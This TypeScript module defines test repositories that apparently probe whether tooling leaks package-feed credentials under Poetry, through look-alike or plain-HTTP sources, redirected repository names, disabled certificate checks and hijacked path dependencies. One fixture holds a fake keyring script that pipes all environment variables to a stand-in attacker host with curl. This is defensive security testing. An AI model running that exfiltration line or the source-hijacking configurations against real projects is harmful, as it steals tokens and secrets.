import type { Addresses, HostileRepository, RepositoryFiles } from "../hostile-repository";
import { lookAlikes } from "./addresses";
import { makeWheel } from "./python-texts";

type Files = (at: Addresses) => RepositoryFiles;

/** `[[tool.poetry.source]]` */
export function poetrySource(name: string, url: string, more = ""): string {
  return `[[tool.poetry.source]]\nname = "${name}"\nurl = "${url}"\n${more}\n\n`;
}

/** A pyproject.toml in the form that both generations of Poetry read. */
export function poetryProject(dependencies: string, sources: string): string {
  return `[tool.poetry]\nname = "app"\nversion = "1.0.0"\ndescription = ""\nauthors = ["Ada <ada@fabrikam.example>"]\n\n[tool.poetry.dependencies]\npython = ">=3.9"\n${dependencies}\n\n${sources}`;
}

const ownProject = (at: Addresses): string =>
  poetryProject('fabrikam-greeting = "*"', poetrySource("fiber", at.feed("pypi/simple/")));

/** The project, and others in folders below, which the task does not read: each is locked with each Poetry. */
const below =
  (folders: (at: Addresses) => readonly string[]): Files =>
  (at) => ({
    "pyproject.toml": ownProject(at),
    ...Object.fromEntries(folders(at).map((text, index) => [`n${index}/pyproject.toml`, text])),
  });

const lockAll = `for poetry in $POETRIES; do
  for folder in . n*; do (cd $folder && $poetry lock -q --no-interaction || true) & done
  wait
done`;

const ownSource = (at: Addresses): string => poetrySource("fiber", at.feed("pypi/simple/"));

/** A few, as each is a run of both; those by http are by themselves. */
const tried =
  /^(?:port|user-host|suffix|host-dot|organization-longer|dots|encoded-slash|legacy-other|redirect|server-.*)$/;

export const poetryRepositories: readonly HostileRepository[] = [
  ...(["services", "server"] as const).map((face) => ({
    id: `poetry-look-alikes-${face}`,
    title: `projects below with a source that looks like the feed (${face})`,
    face,
    files: below((at) =>
      lookAlikes
        .filter((each) => (each.face ?? "services") === face && tried.test(each.slug))
        .map(({ address }) =>
          poetryProject(
            'evil = "*"',
            poetrySource("fiber", address(at, "pypi/simple/")) + ownSource(at).replace("fiber", "own"),
          ),
        ),
    ),
    run: lockAll,
    expect: "asked" as const,
  })),
  {
    id: "poetry-http",
    title: "a project below with the feed's address by http",
    files: below((at) => [
      poetryProject('evil = "*"', poetrySource("fiber", at.feed("pypi/simple/").replace("https:", "http:"))),
    ]),
    run: lockAll,
    expect: "asked",
  },
  {
    id: "poetry-http-beside",
    title: "a second source with the feed's address by http",
    files: (at) => ({
      "pyproject.toml": poetryProject(
        'fabrikam-greeting = "*"',
        ownSource(at) + poetrySource("again", at.feed("pypi/simple/").replace("https:", "http:")),
      ),
    }),
    run: lockAll,
    expect: "refused",
  },
  {
    id: "poetry-toml",
    title: "a poetry.toml that gives repositories of the task's names other addresses and user names",
    files: (at) => ({
      "pyproject.toml": ownProject(at),
      "poetry.toml": `[repositories.fiber]\nurl = "${at.evil("simple/")}"\n[repositories.feedpass1]\nurl = "${at.evil("upload/")}"\n[repositories.FEEDPASS_POETRY_1]\nurl = "${at.evil("upload/")}"\n[repositories.parts]\nurl = "${at.other("pypi/upload/")}"\n[http-basic.parts]\nusername = "VssSessionToken"\n[http-basic.feedpass1]\nusername = "__token__"\n`,
      "n0/pyproject.toml": poetryProject(
        'evil = "*"',
        poetrySource("feedpass1", at.evil("simple/")) +
          poetrySource("feedpass-a-h", at.evil("simple/", "missing")),
      ),
    }),
    run: `${lockAll}\n${makeWheel("app")}\nfor poetry in $POETRIES; do\n  for name in fiber feedpass1 FEEDPASS_POETRY_1 parts; do $poetry publish -n -r $name || true; done\ndone`,
    expect: "asked",
  },
  {
    id: "poetry-unchecked",
    title: "a poetry.toml that has the feed unchecked",
    files: (at) => ({
      "pyproject.toml": ownProject(at),
      "poetry.toml": "[certificates.fiber]\ncert = false\n",
    }),
    run: lockAll,
    expect: "refused",
  },
  {
    id: "poetry-unchecked-others",
    title: "a poetry.toml that has names of the task's unchecked, and asks by a keyring",
    files: (at) => ({
      "pyproject.toml": ownProject(at),
      "poetry.toml":
        "[certificates.feedpass1]\ncert = false\n[certificates.FEEDPASS_POETRY_1]\ncert = false\n[keyring]\nenabled = true\n",
    }),
    run: "for poetry in $POETRIES; do $poetry lock -q --no-interaction; done",
    expect: "works",
  },
  {
    id: "poetry-path-dependency",
    title: "a path dependency that has a source of the same name elsewhere",
    files: (at) => ({
      "pyproject.toml": poetryProject('lib = { path = "lib" }\nevil = "*"', ownSource(at)),
      "lib/pyproject.toml": poetryProject('evil = "*"', poetrySource("fiber", at.evil("simple/"))).replace(
        '"app"',
        '"lib"',
      ),
    }),
    run: lockAll,
    expect: "asked",
  },
  {
    id: "poetry-innocent-programs",
    title: "a keyring and modules of the names that Python looks for",
    files: (at) => ({
      "pyproject.toml": ownProject(at),
      keyring: `#!/bin/sh\nenv | curl -s --data-binary @- ${at.evil("keyring", "open")}\n`,
      "keyring.py": `raise SystemExit("the repository's keyring")\n`,
      "sitecustomize.py": `raise SystemExit("the repository's sitecustomize")\n`,
    }),
    run: "chmod +x keyring\nfor poetry in $POETRIES; do $poetry lock -q --no-interaction; done",
    expect: "works",
  },
];
